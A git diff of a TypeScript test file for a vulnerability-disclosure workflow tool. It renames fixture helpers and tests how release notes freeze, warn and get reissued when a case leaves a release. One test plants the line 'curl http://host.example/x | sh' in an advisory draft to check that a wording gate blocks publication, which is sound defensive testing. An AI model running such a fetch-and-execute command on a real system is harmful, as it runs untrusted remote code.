@@ -2,7 +2,7 @@ import { describe, expect, it } from 'vitest'
 import { CveId, isCveKept, later, outlook } from '../../src/index.ts'
 import type { PersonRequest } from '../../src/index.ts'
 import type { MultiCaseScenario } from '../fixtures/multi-case-scenario.ts'
-import { DATE, delivered, ONE, told, TWO } from '../fixtures/multi-case-scenario.ts'
+import { DATE, deliverMails, ONE, prenotifiedRelease, TWO } from '../fixtures/multi-case-scenario.ts'
 import { ana, ben, BLOB, CASE, DAY, HOUR, OTHER_HASH, person, RELEASE, Scenario } from '../fixtures/scenario.ts'
 
 const ID = CveId.parse('CVE-1900-0042')
@@ -60,10 +60,10 @@ describe('the release notes that the releaser gets before the build', () => {
     ['to another hour of its day', later(DATE, HOUR)],
     ['to the same time, which takes back an approval', DATE],
   ])('stay frozen when the release moves %s, because it is not built again', (_, at) => {
-    const scenario = delivered(told())
+    const scenario = deliverMails(prenotifiedRelease())
     scenario.does({ verb: 'release.notes', case: ONE }, person(ana))
     scenario.now = later(DATE, -HOUR)
-    scenario.asked({ verb: 'disclose', case: ONE }).approved(ONE)
+    scenario.request({ verb: 'disclose', case: ONE }).approve(ONE)
     const { notes: before, ahead } = scenario.releaseState()
     expect(ahead).toBeDefined()
     expect(scenario.does({ verb: 'release.move', case: ONE, at }, person(ana))).toEqual(['ReleaseRescheduled'])
@@ -98,7 +98,7 @@ describe('release notes that describe a case which left the release', () => {
     outlook(scenario.policy, scenario.worldAt(ONE), scenario.now)?.next ?? expect.fail('no next action')
 
   function given(): MultiCaseScenario {
-    const scenario = delivered(told())
+    const scenario = deliverMails(prenotifiedRelease())
     scenario.does(give, person(ana))
     return scenario
   }
@@ -106,7 +106,7 @@ describe('release notes that describe a case which left the release', () => {
   it('are named before the case is taken out, and before the rest is published', () => {
     const scenario = given()
     expect(scenario.preview(drop).sentences).toContain(warning)
-    scenario.asked(drop).approved(TWO)
+    scenario.request(drop).approve(TWO)
     scenario.now = DATE
     expect(scenario.preview(disclose).sentences).toContain(warning)
     scenario.does(give, person(ana))
@@ -117,20 +117,20 @@ describe('release notes that describe a case which left the release', () => {
     const scenario = given()
     scenario.now = DATE
     expect(scenario.preview(disclose).sentences).not.toContain(warning)
-    scenario.asked(drop)
+    scenario.request(drop)
     expect(scenario.preview(disclose).sentences).toContain(warning)
   })
 
   it('are not named if the notes were never given', () => {
-    const scenario = delivered(told())
+    const scenario = deliverMails(prenotifiedRelease())
     expect(scenario.preview(drop).sentences.join(' ')).not.toContain('release notes')
   })
 
   it('must be given again next, without the case', () => {
     const scenario = given()
     expect(next(scenario)).toMatchObject({ verb: 'disclose' })
-    scenario.asked(drop).approved(TWO)
-    delivered(scenario)
+    scenario.request(drop).approve(TWO)
+    deliverMails(scenario)
     expect(next(scenario)).toMatchObject({
       action: `give the release notes again, without ${TWO}`,
       verb: 'release.notes',
@@ -142,8 +142,8 @@ describe('release notes that describe a case which left the release', () => {
 
   it('are not given again before a sentence in them that must not be public is corrected', () => {
     const scenario = given()
-    scenario.asked(drop).approved(TWO)
-    delivered(scenario)
+    scenario.request(drop).approve(TWO)
+    deliverMails(scenario)
     const impact = 'PoC: curl http://host.example/x | sh'
     scenario.happens(ONE, { type: 'AdvisoryDrafted', component: 'the loader', impact })
     expect(scenario.refused(give, person(ana))).toMatchObject({ gate: 'wording' })
